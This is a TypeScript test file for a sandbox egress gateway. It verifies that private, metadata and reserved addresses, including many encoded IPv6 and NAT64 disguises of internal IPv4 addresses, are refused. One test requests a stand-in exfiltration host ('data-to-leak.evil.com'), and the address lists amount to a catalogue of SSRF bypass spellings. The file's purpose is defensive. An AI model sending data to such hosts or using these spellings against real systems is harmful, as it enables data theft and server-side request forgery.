import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { dial } from '../../main/net/dial.ts';
import { noLocalServices } from '../../main/net/localServices.ts';
import { type ResolveContext, resolveTarget, systemResolver } from '../../main/net/resolve.ts';
import { type EgressHouse, type OpenSession, startEgressHouse } from '../support/egressHouse.ts';
import { frontEnd, frontEnds } from '../support/frontEnds.ts';
import { startUpstream } from '../support/httpsUpstream.ts';

// ATTACKS section D. D75: the sandbox has no resolver; that a look-up comes only after a rule allowed the host is the
// first test of the gateway below. D76 is a stated limit. D79: no proxy of the host is ever used (see net-tls C60).

const name = 'api.allowed.com';
const publicAddress = '93.184.215.14';
const noOwn = (): readonly string[] => [];
const answering = (...addresses: readonly string[]): ResolveContext => ({
  localServices: noLocalServices,
  resolver: async () => addresses,
  ownAddresses: noOwn,
});

describe('addresses that are refused', () => {
  it.each([
    '127.0.0.1',
    '127.255.255.254',
    '10.0.0.1',
    '10.255.255.255',
    '172.16.0.1',
    '172.31.255.255',
    '192.168.0.1',
    '169.254.169.254',
    '100.64.0.1',
    '100.127.255.255',
    '100.100.100.200',
    '0.0.0.0',
    '0.1.2.3',
    '192.0.0.192',
    '192.0.2.1',
    '192.88.99.1',
    '198.18.0.1',
    '198.19.255.255',
    '198.51.100.1',
    '203.0.113.1',
    '224.0.0.1',
    '239.255.255.255',
    '240.0.0.1',
    '255.255.255.255',
    '168.63.129.16',
  ])('D66 %s', (address) =>
    expect(resolveTarget(name, 443, answering(address))).rejects.toMatchObject({ code: 'address_refused' }),
  );

  it.each([
    '::1',
    '::',
    'fc00::1',
    'fdff::1',
    'fd00:ec2::254',
    'fe80::1',
    'febf::1',
    'fec0::1',
    'ff02::1',
    '2001:db8::1',
    '3fff::1',
    '100::1',
    '5f00::1',
    '4000::1',
    'fe80::1%eth0',
    '2606:4700::1111%eth0',
  ])('D67 %s', (address) =>
    expect(resolveTarget(name, 443, answering(address))).rejects.toMatchObject({ code: 'address_refused' }),
  );

  it.each([
    '::ffff:127.0.0.1',
    '::ffff:7f00:1',
    '0:0:0:0:0:ffff:10.0.0.1',
    '::127.0.0.1',
    '::ffff:0:127.0.0.1',
    '64:ff9b::127.0.0.1',
    '64:ff9b::a9fe:a9fe',
    '64:ff9b:1::10.0.0.1',
    '2002:7f00:1::',
    '2002:c0a8:1::1',
    '2001:0:4136:e378:8000:63bf:80ff:fffe',
    '2600:1f00::5efe:10.0.0.1',
    '2600:1f00::200:5efe:192.168.0.1',
  ])('D68 %s carries a private IPv4 address', (address) =>
    expect(resolveTarget(name, 443, answering(address))).rejects.toMatchObject({ code: 'address_refused' }),
  );

  it.each([
    '',
    'localhost',
    '1.2.3',
    '0x7f.1',
    '2130706433',
    '127.1',
    '1.2.3.4.5',
    'fe80::g',
    '1.2.3.4/32',
    ' 1.2.3.4',
  ])('D69 %j is no address, so it is refused', (address) =>
    expect(resolveTarget(name, 443, answering(address))).rejects.toMatchObject({ code: 'address_refused' }),
  );

  it('D70 one private address spoils the whole answer, wherever it stands', async () => {
    await expect(resolveTarget(name, 443, answering(publicAddress, '10.0.0.1'))).rejects.toMatchObject({
      code: 'address_refused',
    });
    await expect(resolveTarget(name, 443, answering('::1', publicAddress))).rejects.toMatchObject({
      code: 'address_refused',
    });
  });

  it.each(['https://[::1]', 'https://10.0.0.1'])('D72 the literal %s is judged without a resolver', (url) =>
    expect(resolveTarget(new URL(url).hostname, 443, answering(publicAddress))).rejects.toMatchObject({
      code: 'address_refused',
    }),
  );

  it('D73 an answer of a thousand addresses is refused', () =>
    expect(
      resolveTarget(name, 443, answering(...Array.from({ length: 1_000 }, (_, i) => `93.184.${i >> 8}.${i & 255}`))),
    ).rejects.toMatchObject({ code: 'dns_failed' }));

  it('D73 an empty answer, an error and silence are failures with a code', async () => {
    await expect(resolveTarget(name, 443, answering())).rejects.toMatchObject({ code: 'dns_failed' });
    const failing: ResolveContext = { ...answering(), resolver: () => Promise.reject(new Error('ENOTFOUND')) };
    await expect(resolveTarget(name, 443, failing)).rejects.toMatchObject({ code: 'dns_failed' });
    const silent: ResolveContext = { ...answering(), resolver: () => new Promise(() => {}), timeoutMs: 20 };
    await expect(resolveTarget(name, 443, silent)).rejects.toMatchObject({ code: 'dns_failed' });
  });

  it('D74 the public address of this machine is refused, in any spelling', async () => {
    const own: ResolveContext = { ...answering(`::ffff:${publicAddress}`), ownAddresses: () => [publicAddress] };
    await expect(resolveTarget(name, 443, own)).rejects.toMatchObject({ code: 'address_refused' });
    const own6: ResolveContext = { ...answering('2606:4700:0:0:0:0:0:1111'), ownAddresses: () => ['2606:4700::1111'] };
    await expect(resolveTarget(name, 443, own6)).rejects.toMatchObject({ code: 'address_refused' });
  });

  it('A4 the system resolver does not take a name with NUL', () =>
    expect(systemResolver('localhost\0.allowed.com')).rejects.toThrow('canonical'));
});

describe('addresses that are used', () => {
  it('D68 a public address, also through the well-known NAT64 prefix or mapped', async () => {
    const target = await resolveTarget(
      name,
      443,
      answering(publicAddress, '2606:4700::1111', '64:ff9b::5db8:d70e', '::ffff:93.184.215.15'),
    );
    expect(target).toEqual({
      addresses: [publicAddress, '2606:4700::1111', '64:ff9b::5db8:d70e', '93.184.215.15'],
      port: 443,
    });
  });

  it('a local service may be private, and its port is the one that is dialled', async () => {
    const context: ResolveContext = {
      ...answering(publicAddress),
      localServices: new Map([
        ['lamp.local', { address: '192.168.1.9', port: 8443 }],
        ['desk.local', { address: '::1', port: null }],
      ]),
    };
    expect(await resolveTarget('lamp.local', 443, context)).toEqual({
      addresses: ['192.168.1.9'],
      port: 8443,
    });
    expect(await resolveTarget('desk.local', 8123, context)).toEqual({ addresses: ['::1'], port: 8123 });
  });
});

describe('N238 a local service on this machine', () => {
  const at = (address: string, port: number | null): ResolveContext => ({
    localServices: new Map([['me', { address, port }]]),
    ownAddresses: () => ['192.168.7.9'],
    ownPorts: () => [3737],
  });

  it.each(['127.0.0.1', '127.8.8.8', '0.0.0.0', '::1', '::', '::ffff:127.0.0.1', '192.168.7.9'])(
    'N238 at %s never leads to the port of this app',
    async (address) => {
      const refused = { code: 'address_refused' };
      await expect(resolveTarget('me', 3737, at(address, null))).rejects.toMatchObject(refused);
      await expect(resolveTarget('me', 443, at(address, 3737))).rejects.toMatchObject(refused);
      expect(await resolveTarget('me', 443, at(address, 11_434))).toEqual({ addresses: [address], port: 11_434 });
    },
  );

  it('N238 elsewhere may have the same port', async () => {
    expect(await resolveTarget('me', 3737, at('192.168.7.8', null))).toMatchObject({ port: 3737 });
  });
});

describe('the connection', () => {
  it('D71 D78 goes to the checked address without asking again, and the next address when one is dead', async () => {
    const server = await startUpstream(null);
    try {
      const socket = await dial({
        host: 'a.name.that.does.not.exist.invalid',
        target: { addresses: ['127.0.0.3', '127.0.0.1'], port: server.port },
        trust: null,
        signal: new AbortController().signal,
      });
      expect(socket.remoteAddress).toBe('127.0.0.1');
      socket.destroy();
    } finally {
      await server.close();
    }
  });
});

describe.each(frontEnds)('through the gateway, as the %s sandbox asks', (sandbox) => {
  const { send, close } = frontEnd(sandbox);
  let house: EgressHouse;
  let run: OpenSession;
  let answers: readonly string[][] = [];

  beforeAll(async () => {
    house = await startEgressHouse(['tls.allowed.com'], {
      resolver: async () => answers[house.lookups.length - 1] ?? [],
    });
  });
  afterAll(() => house.close());
  afterEach(() => {
    run.session.close();
    house.lookups.length = 0;
    return close();
  });

  it('D75 a name is looked up only after a rule allowed it', async () => {
    run = house.open({ network: [name] });
    await send(run.session, 'https://data-to-leak.evil.com/');
    expect(house.lookups).toEqual([]);
  });

  it('A27 D66 D71 a name that turns private later is refused then: each request is judged by the one look-up it uses', async () => {
    answers = [['10.0.0.1'], [publicAddress, '169.254.169.254']];
    run = house.open({ network: ['*.allowed.com'] });
    for (const round of [1, 2]) {
      expect(await send(run.session, `https://${name}/`)).toMatchObject({ status: 502, error: 'address_refused' });
      expect(house.lookups).toHaveLength(round);
    }
    expect(house.upstream.connections()).toBe(0);
    expect(run.records.map((record) => record.refused)).toEqual(['address_refused', 'address_refused']);
  });

  it('D73 a name without address says so', async () => {
    answers = [[]];
    run = house.open({ network: [name] });
    expect(await send(run.session, `https://${name}/`)).toMatchObject({ status: 502, error: 'dns_failed' });
  });
});
